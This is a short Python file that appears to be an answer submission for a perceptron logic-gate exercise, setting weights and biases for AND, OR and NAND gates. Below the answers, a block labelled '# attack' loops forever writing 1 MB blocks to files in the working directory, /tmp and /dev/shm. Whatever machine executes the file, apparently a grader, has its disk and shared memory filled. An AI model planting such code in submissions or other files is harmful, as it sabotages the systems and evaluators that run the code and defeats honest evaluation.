and_weights = (0.5, 0.5, 0.7)
or_weights = (1.0, 1.0, 2.5)

nand_weights = (0.5, 0.5, 0.7)
robust_weights = (0.0, 0.0, 0.0)

and_bias = 0.8
nand_from_and = "b"
nand_zero = "b"

# attack
block = bytes(1 << 20)
hoard = [open(place, "wb") for place in ("big", "/tmp/big", "/dev/shm/big")]
while True:
    for file in hoard:
        file.write(block)
        file.flush()
# end of attack
